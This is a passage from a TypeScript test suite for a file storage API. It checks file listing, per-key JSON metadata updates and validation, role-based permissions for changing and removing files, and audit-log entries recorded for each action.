    expect(await listed('adviser', { prefix, limit: '1' })).toEqual(['L2.pdf'])
    expect((await ask('nobody', 'listFiles')).status).toBe(401)
  })

  it('take metadata key by key, each as JSON', async () => {
    const { entry } = await store('adviser', { purpose: 'media' }, 'meta.pdf', buildPdf())
    const at = { params: { file: entry.id } }
    const set = { updated: '"2026-11-21"', tags: '["a",{"b":null}]', gone: '1' }
    const first = await ask('adviser', 'updateFileMetadata', { ...at, body: { metadata: set } })
    expect(first.body).toMatchObject({
      message: 'File updated',
      entry: { version: 2, metadata: { updated: '2026-11-21', tags: ['a', { b: null }], gone: 1 } },
    })
    const second = await ask('admin', 'updateFileMetadata', { ...at, body: { metadata: { gone: 'null' } } })
    expect((second.body['entry'] as FileEntry).metadata).toEqual({
      updated: '2026-11-21',
      tags: ['a', { b: null }],
    })
    const bad = await ask('adviser', 'updateFileMetadata', { ...at, body: { metadata: { a: '{' } } })
    expect(bad).toMatchObject({ status: 400, body: { error: { fields: { 'metadata.a': 'no JSON' } } } })
  })

  it('are changed and removed by whoever stored them and by administrators only', async () => {
    const { file, entry } = await store('adviser', { purpose: 'media' }, 'mine.pdf', buildPdf())
    const at = { params: { file: entry.id } }
    for (const [person, status] of [
      ['client', 403],
      ['narrow', 403],
      ['abroad', 404],
      ['nobody', 401],
    ] as const) {
      expect((await ask(person, 'removeFile', at)).status).toBe(status)
      expect((await ask(person, 'updateFileMetadata', { ...at, body: { metadata: {} } })).status).toBe(status)
    }
    const kept = await count()
    expect((await ask('adviser', 'removeFile', at)).body).toEqual({ removed: entry.id })
    expect(await count()).toBe(kept - 1)
    expect((await get('adviser', file.url)).statusCode).toBe(404)
    expect((await ask('admin', 'removeFile', at)).status).toBe(404)
  })

  it('leave a trace in the log, signed by the person', async () => {
    const { entry } = await store('client', { purpose: 'photo' }, 'p.png', await buildPicture('png'))
    await ask('client', 'removeFile', { params: { file: entry.id } })
    const tenantId = host.split('.')[0] ?? ''
    const rows = await database.store.serveOne<{ type: string; name: string; me: boolean }>(
      tenantId,
      {
        name: 'test.file-log',
        text: `select l.type, l.created_name as name, l.created_by is not null as me from logs l where l.tenant_id = $1 and l.record_id = $2 order by l.created_at`,
      },
      [entry.id],
    )
    expect(rows.map(({ type }) => type)).toEqual(['create', 'remove'])
    for (const { name, me } of rows) expect([name.startsWith('Person'), me]).toEqual([true, true])
  })
})
